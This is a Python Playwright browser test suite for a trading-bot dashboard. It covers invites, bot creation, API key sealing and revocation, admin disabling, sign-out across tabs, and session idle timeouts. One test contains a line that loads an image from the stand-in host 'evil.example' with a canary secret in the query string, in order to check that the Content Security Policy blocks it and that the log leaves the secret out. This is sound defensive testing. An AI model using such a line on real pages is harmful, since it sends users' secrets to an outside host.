"""Accounts, sessions and keys, in a real browser."""

import hashlib
import re

import pytest
from playwright.async_api import Browser, Page, expect

from tests.browser.windows import opened
from tests.dashboard.process import PASSWORD, Dashboard
from tests.dashboard.traders import Trader

pytestmark = pytest.mark.browser


async def test_new_person_makes_a_paper_bot(dashboard: Dashboard, browser: Browser) -> None:
    context = await browser.new_context(base_url=dashboard.url)
    page = await context.new_page()
    await page.goto(dashboard.invite())
    await page.get_by_label("Name").fill("alice")
    await page.locator("#password").fill(PASSWORD)
    await page.locator("#repeated").fill(PASSWORD)
    await page.get_by_test_id("make-account").click()
    await expect(page.get_by_test_id("empty")).to_contain_text("You have no bots yet.")

    await page.get_by_test_id("new-bot").click()
    await page.wait_for_function("window.did_handshake === true")
    await page.get_by_test_id("name").fill("Not A Name")
    await page.get_by_test_id("create").click()
    await expect(page.get_by_text("metadata.name in body should match")).to_be_visible()
    await page.get_by_test_id("name").fill("alices-first")
    await page.get_by_test_id("create").click()

    await expect(page).to_have_url(re.compile(r"/bots/kbots-bots/alices-first$"), timeout=30_000)
    await expect(page.locator("h1")).to_have_text("alices-first")
    await expect(page.get_by_test_id("mode")).to_have_text("PAPER")
    rows = dashboard.database.rows(
        "select owner, spec ->> 'mode' from kbots.trading_bots where name = 'alices-first'"
    )
    assert rows == [("alice", "paper")]


# SEC-44
async def test_key_is_added_and_revoked(page: Page, dashboard: Dashboard) -> None:
    await opened(page, "/keys")
    await page.get_by_test_id("add-key").click()
    await page.get_by_label("Label").fill("main")
    await page.locator("#api_key").fill("CanaryKeyCanaryKey4321")
    await page.locator("#api_secret").fill("CanarySecretCanarySecret")
    await page.locator("#current").fill(PASSWORD)
    await page.get_by_test_id("seal-key").click()
    await expect(page.get_by_test_id("key-last4")).to_have_text("…4321")
    await page.wait_for_function("window.did_handshake === true")

    await page.get_by_test_id("revoke-main").click()

    await expect(page.get_by_test_id("key-status")).to_have_text("Revoked")
    assert dashboard.database.rows("select status from kbots.sealed_keys") == [("Revoked",)]


async def test_admin_invites_and_disables(
    page: Page, browser: Browser, dashboard: Dashboard
) -> None:
    await page.goto("/admin")
    await page.get_by_test_id("invite").click()
    await page.get_by_test_id("invite-link").wait_for()
    link = await page.get_by_test_id("invite-link").inner_text()
    other = await browser.new_page()
    await other.goto(link)
    await other.get_by_label("Name").fill("temporary")
    await other.locator("#password").fill(PASSWORD)
    await other.locator("#repeated").fill(PASSWORD)
    await other.get_by_test_id("make-account").click()
    await other.get_by_test_id("who").wait_for()

    await page.goto("/admin")
    await page.get_by_test_id("disable-temporary").click()

    await expect(other).to_have_url(re.compile(r"/login$"), timeout=5000)
    await expect(page.get_by_test_id("person-temporary")).to_contain_text("Disabled")


# SEC-23
async def test_sign_out_leaves_no_other_tab_behind(page: Page, bot: Trader) -> None:
    other = await page.context.new_page()
    await opened(other, bot.path)

    await page.get_by_test_id("sign-out").click()

    await expect(page).to_have_url(re.compile(r"/login$"), timeout=30_000)
    await expect(other).to_have_url(re.compile(r"/login$"), timeout=2000)
    await expect(other.locator("h1")).to_have_text("Sign in")
    await other.goto(bot.path)
    await expect(other.locator("h1")).to_have_text("Sign in")


async def test_tab_that_was_away_when_its_session_ended_goes_to_the_sign_in(
    page: Page, dashboard: Dashboard
) -> None:
    await opened(page, "/trades")
    await page.context.set_offline(True)
    cookie = (await page.context.cookies())[0]["value"]
    dashboard.database.rows(
        "delete from kbots.sessions where token_hash = %s returning 1",
        (hashlib.sha256(cookie.encode()).digest(),),
    )

    await page.context.set_offline(False)

    await expect(page).to_have_url(re.compile(r"/login\?next=/trades$"), timeout=30_000)


# SEC-22
async def test_page_offers_to_stay_signed_in_before_the_idle_end(
    page: Page, dashboard: Dashboard
) -> None:
    await opened(page, "/trades")
    cookie = (await page.context.cookies())[0]["value"]
    key = hashlib.sha256(cookie.encode()).digest()
    idle = "update kbots.sessions set last_action_at = now() - %s::interval where token_hash = %s returning 1"
    for _ in range(
        100
    ):  # what the page itself sent when it was opened counts as an action a moment later
        dashboard.database.rows(idle, ("28 minutes 30 seconds", key))
        if await page.get_by_test_id("stay").is_visible():
            break
        await page.wait_for_timeout(400)
    await expect(page.get_by_test_id("stay")).to_be_visible()
    await page.get_by_test_id("stay").click()

    await expect(page.get_by_test_id("stay")).to_be_hidden()
    acted = "select last_action_at > now() - interval '1 minute' from kbots.sessions where token_hash = %s"
    for _ in range(100):
        if dashboard.database.rows(acted, (key,)) == [(True,)]:
            break
        await page.wait_for_timeout(200)
    assert dashboard.database.rows(acted, (key,)) == [(True,)]

    # Without an answer the page is replaced, not just covered.
    dashboard.database.rows(idle, ("31 minutes", key))
    await expect(page).to_have_url(re.compile(r"/login"), timeout=40_000)


# SEC-60
async def test_browser_reports_what_the_policy_stops(page: Page, dashboard: Dashboard) -> None:
    await opened(page, "/trades")

    await page.evaluate("new Image().src = 'https://evil.example/x.png?secret=canary'")

    for _ in range(100):
        if "csp_violation" in dashboard.log.read_text():
            break
        await page.wait_for_timeout(200)
    log = dashboard.log.read_text()
    assert '"blocked": "https://evil.example"' in log
    assert "canary" not in log
